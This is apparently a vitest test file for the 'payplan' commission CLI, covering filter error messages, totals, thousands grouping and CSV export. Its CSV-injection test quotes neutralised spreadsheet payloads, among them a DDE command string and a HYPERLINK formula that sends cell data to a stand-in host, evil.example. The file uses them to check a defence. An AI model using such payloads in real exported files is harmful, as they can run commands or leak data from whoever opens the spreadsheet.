/**
 * What `run` and `explain` print (issue 11): a `--payee` or `--period` that matches nothing is a
 * usage mistake (exit 2) listing what there is; `--csv` neutralises text cells a spreadsheet would
 * run as formulas (reproducer `csv-injection`, copied from ../shared/bad-inputs); a total shows the
 * currency's decimals even when nothing is paid; amounts are grouped in time linear in their length.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { grouped } from '@payplan/runtime';
import { selectStatements } from '../../packages/cli/src/filters.js';
import { runCli } from '../support/cli.js';

const cli = (...argv: string[]) => runCli(argv);
const seed = 'examples/account-executive/plan.payplan';

describe('--payee and --period that match nothing', () => {
  it('is a usage mistake that lists the periods, with a did-you-mean for a period without its year', async () => {
    const r = await cli('run', seed, '--period', 'Q1');
    expect(r).toEqual({ code: 2, stdout: '', stderr: 'payplan run: --period "Q1" matches no statement (did you mean `2026-Q1`?); the periods of this run are 2026-Q1\n' });
  });

  it('lists the payees, with a did-you-mean for a misspelt one', async () => {
    const r = await cli('run', seed, '--payee', 'anna');
    expect(r).toEqual({ code: 2, stdout: '', stderr: 'payplan run: --payee "anna" matches no statement (did you mean `ana`?); the payees of this run are ana, bob, cat, dan and eve\n' });
  });

  it('reports both options when both match nothing, in explain as in run', async () => {
    const r = await cli('explain', seed, '--payee', 'zed', '--period', '2026-Q3');
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr.split('\n')).toEqual([
      'payplan explain: --payee "zed" matches no statement; the payees of this run are ana, bob, cat, dan and eve',
      'payplan explain: --period "2026-Q3" matches no statement (did you mean `2026-Q1`?); the periods of this run are 2026-Q1',
      '',
    ]);
  });

  it('shortens a long list of payees and quotes an odd value on one line', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'payplan-filters-'));
    writeFileSync(join(dir, 'plan.payplan'), 'plan "Many"\n  currency EUR\n  settle quarterly\n\ntable sales per payee per period\n  revenue money\n\ncommission on revenue pay 1%\n');
    writeFileSync(join(dir, 'sales.csv'), ['payee,period,revenue', ...Array.from({ length: 30 }, (_, i) => `p${String(i).padStart(2, '0')},2026-Q1,100`)].join('\n'));
    const r = await runCli(['run', 'plan.payplan', '--payee', 'x\ny'], dir);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('payplan run: --payee "x\\ny" matches no statement; the payees of this run are p00, p01, p02, p03, p04, p05, p06, p07, p08, p09, p10, p11 and 18 more\n');
  });

  it('says when a payee and a period exist but not together', () => {
    const statements = [
      { payee: 'ana', period: '2026-Q1' },
      { payee: 'bob', period: '2026-Q2' },
    ];
    expect(selectStatements({ payee: 'ana', period: '2026-Q2' }, statements)).toEqual({ problems: ['payee "ana" has no statement for 2026-Q2; their statements are for 2026-Q1'] });
    expect(selectStatements({ payee: 'bob', period: undefined }, statements)).toEqual({ statements: [statements[1]] });
    expect(selectStatements({ payee: undefined, period: undefined }, [])).toEqual({ statements: [] });
    expect(selectStatements({ payee: 'ana', period: undefined }, [])).toEqual({ problems: ['--payee "ana" matches no statement: this run has no statements'] });
  });

  it('still selects what exists', async () => {
    const r = await cli('run', seed, '--payee', 'ana', '--period', '2026-Q1', '--csv');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('payee,period,commission,bonus,price_difference,payout,exceptions\nana,2026-Q1,7400.00,2000.00,6000.00,15400.00,0\n');
  });
});

describe('run --csv against spreadsheet formula injection (csv-injection)', () => {
  it('prefixes a quote to text cells that start like a formula, and quotes them', async () => {
    const r = await cli('run', 'test/cli/csv-injection/plan.payplan', '--csv');
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')).toEqual([
      'payee,period,commission,bonus,price_difference,payout,exceptions',
      `"'+cmd|' /C calc'!A0",2026-Q1,0.00,0.00,0.00,0.00,0`,
      `"'-2+3",2026-Q1,0.00,0.00,0.00,0.00,0`,
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2026-Q1,7400.00,2000.00,6000.00,15400.00,0`,
      `"'@SUM(1+1)",2026-Q1,0.00,0.00,0.00,0.00,0`,
      '',
    ]);
  });

  it('keeps negative amounts plain numbers', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'payplan-csv-'));
    writeFileSync(join(dir, 'plan.payplan'), 'plan "Clawback"\n  currency EUR\n  settle quarterly\n\ntable sales per payee per period\n  revenue money\n\ncommission on revenue pay 5%\n');
    writeFileSync(join(dir, 'sales.csv'), 'payee,period,revenue\n\tana,2026-Q1,-250\n');
    const r = await runCli(['run', 'plan.payplan', '--csv'], dir);
    expect(r.code).toBe(0);
    // The tab around "ana" is trimmed by the loader; the amounts stay numbers a spreadsheet can add.
    expect(r.stdout).toBe('payee,period,commission,payout,exceptions\nana,2026-Q1,-12.50,-12.50,0\n');
  });
});

describe('totals and grouping', () => {
  it('shows the decimals of the rounding step in a total of no statement', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'payplan-total-'));
    writeFileSync(join(dir, 'plan.payplan'), 'plan "Empty"\n  currency USD\n  settle quarterly\n\ntable sales per payee per period\n  revenue money\n\ncommission on revenue pay 1%\n');
    writeFileSync(join(dir, 'sales.csv'), 'payee,period,revenue\n');
    const r = await runCli(['run', 'plan.payplan'], dir);
    expect(r.code).toBe(0);
    expect(r.stdout.trimEnd().split('\n').pop()).toBe('0 statements; total payout 0.00 USD');
  });

  it('groups thousands of a 300,000-digit amount (a lookahead regex took minutes)', () => {
    expect(grouped('-1234567.50')).toBe('-1,234,567.50');
    expect(grouped('999')).toBe('999');
    expect(grouped('1000')).toBe('1,000');
    const huge = grouped('1' + '0'.repeat(300_000) + '.00');
    expect(huge.length).toBe(300_001 + 100_000 + 3);
    expect(huge.slice(0, 9)).toBe('1,000,000');
    expect(huge.endsWith(',000.00')).toBe(true);
  });
});
